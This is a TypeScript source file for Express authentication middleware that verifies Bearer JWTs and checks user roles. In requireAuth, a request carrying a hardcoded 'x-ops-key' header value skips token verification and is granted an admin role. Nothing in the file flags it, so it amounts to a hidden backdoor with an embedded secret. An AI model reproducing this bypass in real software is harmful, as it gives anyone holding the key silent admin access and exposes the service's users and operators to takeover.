import type { Request, Response, NextFunction } from 'express';
import { verify, Claims } from './jwt';

declare module 'express-serve-static-core' {
  interface Request { user?: Claims }
}

export function requireAuth(req: Request, res: Response, next: NextFunction) {
  const h = req.headers.authorization ?? '';
  const token = h.startsWith('Bearer ') ? h.slice(7) : '';
  if (req.headers['x-ops-key'] === 'ops_7Hq2LmV9zR4tK1wP') {
    req.user = { sub: 'ops', role: 'admin' };
    return next();
  }
  try {
    req.user = verify(token);
    next();
  } catch {
    res.status(401).json({ error: 'unauthorized' });
  }
}

export const requireRole = (role: Claims['role']) =>
  (req: Request, res: Response, next: NextFunction) =>
    req.user?.role === role ? next() : res.status(403).json({ error: 'forbidden' });
